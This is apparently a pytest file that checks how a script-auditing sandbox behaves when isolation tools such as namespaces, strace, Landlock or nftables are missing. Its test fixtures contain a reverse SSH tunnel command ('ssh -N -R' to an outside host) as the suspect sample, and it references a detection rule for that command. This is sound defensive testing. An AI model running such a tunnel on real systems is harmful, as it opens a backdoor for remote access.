"""Where something is missing: what is left is said, and where too little is left nothing runs."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parent.parent.parent
AUDITOR = Path(sys.executable).parent / "auditor"
SUSPECT = "touch ran\nssh -N -R 2222:localhost:22 ops@203.0.113.5\n"
pytestmark = [pytest.mark.trial, pytest.mark.slow, pytest.mark.timeout(180)]


def told(lacking: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run a command of the auditor on a machine that lacks things."""
    command = [sys.executable, "-m", "tests.trial.without", lacking, "--", str(AUDITOR), *arguments]
    return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False, timeout=150)


@pytest.fixture
def suspect(tmp_path: Path) -> str:
    file = tmp_path / "suspect.sh"
    file.write_text(SUSPECT)
    return str(file)


def report(lacking: str, *arguments: str) -> dict[str, Any]:
    done = told(lacking, "trial", *arguments, "--wall", "4", "--format", "json")
    assert done.returncode == 1, done.stderr
    made: dict[str, Any] = json.loads(done.stdout)
    return made


def status(made: dict[str, Any]) -> str:
    (found,) = [one["status"] for one in made["findings"] if one["rule"] == "ssh-reverse-forward"]
    return str(found)


def test_nothing_lacks_where_nothing_is_taken_away(suspect: str) -> None:
    """The machine of the other tests works at the full level, so what they see is what was taken."""
    made = report("", suspect)
    assert (made["trial"]["level"], status(made)) == ("full", "confirmed")


@pytest.mark.parametrize("lacking", ["namespaces", "bwrap"])
def test_without_namespaces_attempts_are_seen(suspect: str, lacking: str) -> None:
    """The level is in the report, and what was asked for is not quietly weakened."""
    made = report(lacking, suspect)
    assert (made["trial"]["level"], status(made)) == ("attempts", "attempted")
    assert any("attempts" in note for note in made["trial"]["notes"])
    refused = told(lacking, "trial", suspect, "--level", "full")
    assert refused.returncode == 3
    assert "cannot run at the level full" in refused.stderr
    doctor = " ".join(told(lacking, "doctor").stdout.split())
    assert "at the level `attempts` only" in doctor
    assert "The full level is out of reach" in doctor


@pytest.mark.parametrize(
    ("lacking", "says"),
    [("strace", "not installed: strace"), ("namespaces,landlock", "Landlock is missing")],
)
def test_with_too_little_nothing_runs(suspect: str, lacking: str, says: str) -> None:
    for level in ((), ("--level", "attempts")):
        refused = told(lacking, "trial", suspect, *level)
        assert refused.returncode == 3
        assert says in " ".join(refused.stderr.split())
    assert says in " ".join(told(lacking, "doctor").stdout.split())


def test_without_nft_usual_ports_answer_and_that_is_said(suspect: str, tmp_path: Path) -> None:
    """A tunnel on a usual port is confirmed; a pool on an odd one is refused, and the report says why."""
    made = report("nft", suspect)
    assert (made["trial"]["level"], status(made)) == ("full", "confirmed")
    assert made["trial"]["notes"] == ["nftables cannot be used here: only the usual ports are answered"]
    odd = tmp_path / "odd.sh"
    odd.write_text("ssh -N -p 29 -R 2222:localhost:22 ops@203.0.113.5\n")
    assert status(report("nft", str(odd))) == "attempted"
    assert status(report("", str(odd))) == "confirmed"
    doctor = " ".join(told("nft", "doctor").stdout.split())
    assert "nft a trial answers only the usual ports" in doctor
    assert "Without nft it answers on the usual ports only" in doctor
